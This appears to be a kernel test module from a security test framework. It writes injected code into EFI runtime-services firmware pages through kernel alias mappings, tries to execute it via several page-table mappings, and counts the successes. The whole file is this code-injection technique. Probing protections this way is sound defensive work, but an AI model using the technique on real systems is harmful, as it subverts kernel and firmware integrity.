/* SPDX-License-Identifier: MIT OR GPL-2.0-only */
/*
 * Uses the firmware's runtime code for code of its own: writes a function where the firmware has its, and runs it
 * there by mappings of the kernel's, where it has others and where Linux maps the firmware.
 */
#include "attack.h"
#include "attack_tables.h"

#include <linux/efi.h>
#include <linux/io.h>
#include <linux/string.h>

#define WAYS 3
/* Documentation/arch/x86/x86_64/mm.rst: EFI region mapping space. Nobody is there but in the tree for firmware calls. */
#define FIRMWARE_AREA 0xfffffff000000000ul
#define PAGES_MAX 512u

static unsigned int pages, written, ran[WAYS];

static unsigned long area;
static u64 *table, *firmware;

/* By a mapping with these rights, which are those of code. */
static bool run_at(unsigned long address, u64 *slot, u64 leaf)
{
	bool called = false;

	if (attack_store(slot, leaf)) {
		attack_flush();
		called = attack_call(address) == ATTACK_CALLED;
	}
	(void)attack_store(slot, 0);
	attack_flush();
	return called;
}

static bool link_firmware(void)
{
	u64 *middle = attack_page(0), *slot = attack_slot(FIRMWARE_AREA, 3, NULL);

	firmware = attack_page(0);
	if (!middle || !firmware || !slot || *slot)
		return false;
	middle[0] = virt_to_phys(firmware) | (ATTACK_TABLE & ~(u64)_PAGE_USER);
	(void)attack_store(slot, virt_to_phys(middle) | (ATTACK_TABLE & ~(u64)_PAGE_USER));
	return true;
}

static void attempt_at(u64 physical)
{
	u64 *alias = attack_map(physical, PAGE_KERNEL), before, code[2];

	pages++;
	if (!alias)
		return;
	before = *alias;
	attack_write_code(code);
	if (!attack_store(alias, code[0]))
		return;
	written++;
	ran[0] += run_at(area, table, physical | ATTACK_CODE);
	ran[1] += run_at(area, table, physical | ATTACK_CODE | _PAGE_RW);
	ran[2] += run_at(FIRMWARE_AREA, firmware, physical | ATTACK_CODE);
	(void)attack_store(alias, before);
}

static int attempt(void)
{
	const efi_memory_desc_t *range;

	area = attack_area();
	table = attack_page(0);
	if (!efi_enabled(EFI_RUNTIME_SERVICES) || !area || !table || !attack_link(table) ||
	    !link_firmware())
		return -ENOENT;
	for_each_efi_memory_desc(range)
	{
		if (range->type != EFI_RUNTIME_SERVICES_CODE)
			continue;
		for (u64 page = 0; page < range->num_pages && pages < PAGES_MAX; page++)
			attempt_at(range->phys_addr + page * PAGE_SIZE);
	}
	attack_link(NULL);
	(void)attack_store(attack_slot(FIRMWARE_AREA, 3, NULL), 0);
	attack_flush();
	return 0;
}

static bool effect(void)
{
	const unsigned int sum = ran[0] + ran[1] + ran[2];

	attack_detail("%u pages, %u written; run: %u, %u, %u", pages, written, ran[0], ran[1],
		      ran[2]);
	return attack_under_secpod() ? sum : pages && sum == WAYS * pages;
}

static const struct attack efi_code = {
	"efi_code", "kernel-exec,code-store,locked-range", NULL, attempt, effect, NULL};
ATTACK_MODULE(efi_code);
